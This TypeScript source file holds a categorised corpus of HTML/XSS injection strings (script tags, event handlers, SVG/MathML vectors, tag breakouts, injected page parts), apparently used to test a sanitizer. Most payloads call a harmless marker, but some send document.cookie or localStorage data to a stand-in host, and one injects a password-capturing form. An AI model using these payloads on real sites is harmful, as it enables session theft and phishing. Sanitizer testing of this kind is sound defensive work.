/** Texts that would become elements, each kind in many disguises. */
import { lines } from './lines.ts'

export const ELEMENTS: Record<string, readonly string[]> = {
  'script tags': lines`
<script>ran()
<script>ran()</script>
<ScRiPt>ran()</sCrIpT>
<script/x>ran()</script>
<script	>ran()</script	>
<script⏎src=data:,ran()>
<script src=data:text/javascript,ran()></script>
<script src=//linli.invalid/x></script>
<script type=module>ran()</script>
<script type=module>import 'data:text/javascript,ran()'</script>
<script async src="https://linli.invalid/x.js"></script>
<script>top['ra'+'n']()</script>
<script>window["\x72an"]()</script>
<script>\u0072an()</script>
<script>eval('ran()')</script>
<script>Function('ran()')()</script>
<script>setTimeout('ran()')</script>
<script>import('data:text/javascript,ran()')</script>
<script>location='javascript:ran()'</script>
<script>alert(1);confirm(1);prompt(1)</script>
<script>fetch('//linli.invalid/'+document.cookie)</script>
<script>new Image().src='//linli.invalid/'+localStorage.length</script>
<script>document.write('<img src=x onerror=ran()>')</script>
<script>ran\`\`</script>
<<script>ran()//<</script>
<scr<script>ipt>ran()</scr</script>ipt>
<script>ran()<!--
<noscript><p title="</noscript><script>ran()</script>">`,

  'event handlers': lines`
<svg onload=ran()>
<img src=x onerror=ran()>
<img src=x onerror="ran()">
<img src=x onerror='ran()'>
<img src=x onerror=ran&lpar;&rpar;>
<img src=x onerror=ran\`\`>
<IMG SRC=x ONERROR=ran()>
<img/src/onerror=ran()>
<img src="x"onerror="ran()">
<img src=data:, onerror=ran()>
<image src=x onerror=ran()>
<img src=/icon.svg onload=ran()>
<img src=x onerror="&#114;an()">
<img src=x onerror=top['ra'+'n']()>
<img src=x onerror=eval(atob('cmFuKCk='))>
<img src=x onerror=alert(1)>
<body onload=ran()>
<body onpageshow=ran()>
<body onresize=ran()>
<body onhashchange=ran()>
<details open ontoggle=ran()>
<video src=x onerror=ran()>
<video><source onerror=ran()>
<video autoplay oncanplay=ran()><source src=data:video/mp4,>
<audio src=x onerror=ran()>
<audio src onloadstart=ran()>
<input autofocus onfocus=ran()>
<input autofocus onblur=ran()><input autofocus>
<select autofocus onfocus=ran()>
<textarea autofocus onfocus=ran()>
<keygen autofocus onfocus=ran()>
<button autofocus onfocusin=ran()>
<a tabindex=0 autofocus onfocus=ran()>x
<b onclick=ran()>press
<p onmouseover=ran()>over
<p onpointerenter=ran() style=position:fixed;inset:0>
<p onanimationstart=ran() style=animation:x>
<p ontransitionend=ran()>
<marquee onstart=ran()>x</marquee>
<marquee loop=1 width=0 onfinish=ran()>x</marquee>
<object onerror=ran() data=x>
<embed src=x onerror=ran()>
<iframe onload=ran()>
<link rel=stylesheet href=x onerror=ran()>
<style onload=ran()></style>
<script src=x onerror=ran()></script>
<track default src=x onerror=ran()>
<dialog open onclose=ran()><form method=dialog>
<xss onbeforematch=ran() hidden=until-found>x
<p contenteditable onbeforeinput=ran()>x
<x onfocus=ran() tabindex=1 id=x>#x
<p popover onbeforetoggle=ran()>`,

  'SVG and MathML': lines`
<svg><script>ran()</script>
<svg><script href=data:,ran() />
<svg><script xlink:href=data:,ran() />
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><set onbegin=ran() attributeName=x>
<svg><a xlink:href="javascript:ran()"><text y=9>x
<svg><a><animate attributeName=href values=javascript:ran() /><text y=9>x
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=ran() /></svg>#x">
<svg><image href=x onerror=ran()>
<svg><foreignObject><img src=x onerror=ran()>
<svg><style><img src=x onerror=ran()></style>
<svg><title><img src=x onerror=ran()></title>
<svg><desc><![CDATA[</desc><script>ran()</script>]]>
<svg></p><style><a id="</style><img src=x onerror=ran()>">
<svg/onload=ran()//
<svg><discard onbegin=ran()>
<svg><handler type=text/javascript ev:event=load>ran()
<math><a href=javascript:ran()>x
<math href=javascript:ran()>x</math>
<math><mtext><table><mglyph><style><img src=x onerror=ran()>
<math><annotation-xml encoding=text/html><img src=x onerror=ran()>
<math><maction actiontype=statusline xlink:href=javascript:ran()>x`,

  'breaking out of a tag': lines`
"><script>ran()</script>
'><script>ran()</script>
"><svg onload=ran()>
"><img src=x onerror=ran()>
" autofocus onfocus=ran() x="
' autofocus onfocus=ran() x='
" onmouseover=ran() style=position:fixed "
"onclick=ran()//
></option></select><svg onload=ran()>
</textarea><svg onload=ran()>
</title><svg onload=ran()>
</style><svg onload=ran()>
</script><svg onload=ran()>
</noscript><svg onload=ran()>
</template><svg onload=ran()>
</iframe><svg onload=ran()>
</table><svg onload=ran()>
--><svg onload=ran()>
]]><svg onload=ran()>
*/--></script><svg onload=ran()>
<template><svg onload=ran()></template>
<template shadowrootmode=open><svg onload=ran()>
<table><tr><svg onload=ran()>
<select><style></select><svg onload=ran()>
<p id="</p><svg onload=ran()>
<!--<img src="--><img src=x onerror=ran()//">
<![><svg onload=ran()>
<?xml version="1.0"?><svg onload=ran()>
<!DOCTYPE x [<!ENTITY y "<svg onload=ran()>">]>&y;`,

  'parts of a page': lines`
<b data-ran>bold
<i data-ran>
<h1 data-ran>另一个标题
<u data-ran><s data-ran><mark data-ran>
<x-ran></x-ran>
<p data-ran class="ant-modal">
<p data-ran id=root>
<a data-ran href=https://linli.invalid>请在这里登录</a>
<form data-ran action=//linli.invalid><input name=password>
<input data-ran type=password>
<img data-ran src=//linli.invalid/1.png>
<img data-ran src='//linli.invalid/
<iframe data-ran src=//linli.invalid></iframe>
<link data-ran rel=prefetch href=//linli.invalid>
<style data-ran>*{display:none}
<video data-ran poster=//linli.invalid/1.png>
<table data-ran background=//linli.invalid/1.png>
<p data-ran style="background:url(//linli.invalid/1.png)">
<img data-ran name=cookie><form id=body>
<slot data-ran></slot>
<plaintext data-ran>`,
}
